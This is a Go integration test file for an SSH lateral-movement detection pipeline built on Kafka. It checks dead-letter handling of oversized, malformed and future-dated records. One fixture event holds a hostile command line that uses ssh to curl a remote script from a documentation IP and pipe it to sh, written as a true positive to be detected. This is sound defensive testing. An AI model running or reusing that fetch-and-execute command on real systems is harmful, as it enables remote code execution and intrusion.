package integration

import (
	"bytes"
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/sshlateral/sshlateral/consumer"
	"github.com/sshlateral/sshlateral/processor"
)

// TestHostileInput: records built to break the pipeline (a dead letter
// larger than any producer or broker limit, an error message quoting half
// a megabyte, a non-matching event of another host dated 2099 that would
// move the partition's clock past every window) and a DLQ topic missing at
// start. The pipeline waits, not
// ready, until the topic exists, then dead-letters each record bounded and
// marked, keeps every true positive, and never stops.
func TestHostileInput(t *testing.T) {
	forEachBroker(t, func(t *testing.T, b testBroker) {
		tp := topics{input: "endpoint.processes", output: "sshlateral.risk", dlq: "sshlateral.dlq",
			changelog: "sshlateral.state-changelog", partitions: 2}
		big := strconv.Itoa(4 << 20)
		compact := "compact"
		createTopic(t, b, tp.input, tp.partitions, map[string]*string{"max.message.bytes": &big})
		createTopic(t, b, tp.output, 3, nil)
		createTopic(t, b, tp.changelog, tp.partitions, map[string]*string{"cleanup.policy": &compact})
		// The DLQ topic is created only after the instance has started.

		g := generateStream(12, 800, 10, 15, streamStart, 2*time.Second)
		lines := g.lines()
		hostile := [][]byte{
			// Undecodable, 1,020,000 bytes: its dead letter, whole, would
			// exceed franz-go's default max record batch (1,000,012 B).
			append([]byte("<Event><System><EventID>1</EventID>"), bytes.Repeat([]byte("A"), 1_020_000-35)...),
			// An unknown entity of 520 KB: the decoder's error quotes it.
			[]byte(`<Event><System><EventID>1</EventID></System><EventData><Data Name="CommandLine">&` +
				strings.Repeat("x", 520_000) + `;</Data></EventData></Event>`),
			// Shares a partition with true positives (keyed like them).
			sysmonLine(genEvent{host: g.events[0].host, user: "svc", parentImage: "/usr/bin/bash", image: "/usr/bin/true",
				cmd: "/usr/bin/true", pid: 7, ppid: 1, at: time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC)}),
		}
		wantReasons := map[string]int{consumer.DLQReasonDecode: 2, consumer.DLQReasonFuture: 1}
		// A true positive whose command line is not valid UTF-8: detected,
		// and written with each invalid byte as U+FFFD (Avro strings are
		// UTF-8; readers would reject the topic otherwise).
		invalid := genEvent{host: "utf8-victim.corp.example", user: "root", parentImage: "/usr/bin/bash", image: "/usr/bin/ssh",
			cmd: "ssh -oBatchMode=yes 10.0.0.9 curl http://203.0.113.9/\xff\xfex.sh | sh", pid: 777, ppid: 77,
			at: streamStart.Add(10 * time.Minute), positive: true}
		hostile = append(hostile, sysmonLine(invalid))
		g.add(invalid)
		var mixed [][]byte
		for i, l := range lines {
			mixed = append(mixed, l)
			if i%200 == 0 && i/200 < len(hostile) {
				mixed = append(mixed, hostile[i/200])
			}
		}

		cfg := pipelineConfig(b, tp, processor.EmitFinal)
		in := startInstance(t, cfg)
		waitFor(t, 30*time.Second, "the instance to report the missing DLQ topic", func() bool {
			return strings.Contains(in.p.NotReady(), tp.dlq)
		})
		t.Logf("%s: not ready before the DLQ topic exists: %q", b.Name(), in.p.NotReady())
		createTopic(t, b, tp.dlq, 1, nil)

		// Records up to 4 MiB, uncompressed, as a hostile producer sends them.
		produceLines(t, b, tp.input, mixed, kgo.ProducerBatchMaxBytes(4<<20), kgo.ProducerBatchCompression(kgo.NoCompression()))
		produceClosers(t, b, tp, g)

		rows := g.rows()
		for i := range rows {
			rows[i].Process = sanitized(rows[i].Process)
		}
		o := requireFinal(t, b, tp.output, rows, 2*time.Second, 90*time.Second, false, "with hostile input")
		dl := readDeadLetters(t, b, tp.dlq, len(hostile)-1)
		if len(dl) != len(hostile)-1 {
			t.Fatalf("dead letters: got %d, want %d", len(dl), len(hostile)-1)
		}
		gotReasons := map[string]int{}
		for _, r := range dl {
			h := headers(r)
			gotReasons[h[consumer.HeaderDLQReason]]++
			if n := len(h[consumer.HeaderDLQError]); n == 0 || n > 300 {
				t.Errorf("dead letter at offset %d: error header of %d bytes, want 1..300", r.Offset, n)
			}
			if len(r.Value) > cfg.DeadLetterMaxBytes {
				t.Errorf("dead letter at offset %d: value of %d bytes over the %d bound", r.Offset, len(r.Value), cfg.DeadLetterMaxBytes)
			}
			truncated := h[consumer.HeaderDLQTruncated] == "true"
			orig, _ := strconv.Atoi(h[consumer.HeaderDLQOriginalSize])
			switch {
			case len(r.Value) == cfg.DeadLetterMaxBytes && (!truncated || orig != len(hostile[0])):
				t.Errorf("dead letter at offset %d cut to the bound but marked truncated=%v original.size=%d, want true and %d",
					r.Offset, truncated, orig, len(hostile[0]))
			case len(r.Value) < cfg.DeadLetterMaxBytes && truncated:
				t.Errorf("dead letter at offset %d of %d bytes marked truncated", r.Offset, len(r.Value))
			}
		}
		if fmt.Sprint(gotReasons) != fmt.Sprint(wantReasons) {
			t.Errorf("dead-letter reasons %v, want %v", gotReasons, wantReasons)
		}
		st := in.p.Stats()
		if got := sumMap(st.DeadLettered); got != int64(len(hostile)-1) {
			t.Errorf("dead-letter counter %d, want %d", got, len(hostile))
		}
		report := fmt.Sprintf("hostile %s: rows=%d found=%d missing=%d dead_letters=%d (%v) dlq_failures=%d", b.Name(), o.expected, o.found, o.missing, len(dl), gotReasons, st.DeadLetterFailures)
		t.Log(report)
		if path := os.Getenv(envScenarioReport); path != "" {
			if err := appendLine(path, report); err != nil {
				t.Errorf("scenario report: %v", err)
			}
		}
	})
}

// TestDeadLetterRejected: the DLQ topic rejects every dead letter (its
// max.message.bytes is below even a dead letter's headers). Each guarantee
// counts it as a dead-letter failure, logged with its offset, not as
// dead-lettered, and goes on: results after it are still written.
// Exactly-once learns it from aborted transactions (the record again
// without its value, then without the record) instead of failing.
func TestDeadLetterRejected(t *testing.T) {
	for _, guarantee := range []consumer.Guarantee{consumer.AtLeastOnce, consumer.ExactlyOnce} {
		t.Run(guarantee.String(), func(t *testing.T) { testDeadLetterRejected(t, guarantee) })
	}
}

func testDeadLetterRejected(t *testing.T, guarantee consumer.Guarantee) {
	forEachBroker(t, func(t *testing.T, b testBroker) {
		tp := topics{input: "endpoint.processes", output: "sshlateral.risk", dlq: "sshlateral.dlq",
			changelog: "sshlateral.state-changelog", partitions: 1}
		tiny, compact := "100", "compact"
		createTopic(t, b, tp.input, 1, nil)
		createTopic(t, b, tp.output, 1, nil)
		createTopic(t, b, tp.dlq, 1, map[string]*string{"max.message.bytes": &tiny})
		createTopic(t, b, tp.changelog, 1, map[string]*string{"cleanup.policy": &compact})

		g := generateStream(13, 300, 5, 10, streamStart, 2*time.Second)
		lines := append([][]byte{[]byte("garbage that no decoder reads")}, g.lines()...)
		cfg := pipelineConfig(b, tp, processor.EmitFinal)
		cfg.Guarantee = guarantee
		in := startInstance(t, cfg)
		produceLines(t, b, tp.input, lines)
		produceClosers(t, b, tp, g)
		requireFinal(t, b, tp.output, g.rows(), 2*time.Second, 90*time.Second, false, "after a rejected dead letter")
		st := in.p.Stats()
		if got := sumMap(st.DeadLettered); got != 0 {
			t.Errorf("dead-letter counter %d, want 0: the broker has none", got)
		}
		if st.DeadLetterFailures != 1 {
			t.Errorf("dead-letter failures %d, want 1", st.DeadLetterFailures)
		}
	})
}

// sanitized is s with each byte that is not part of valid UTF-8 replaced by
// U+FFFD, as the risk-record encoder writes strings.
func sanitized(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && n == 1 {
			b.WriteString("\uFFFD")
		} else {
			b.WriteString(s[i : i+n])
		}
		i += n
	}
	return b.String()
}
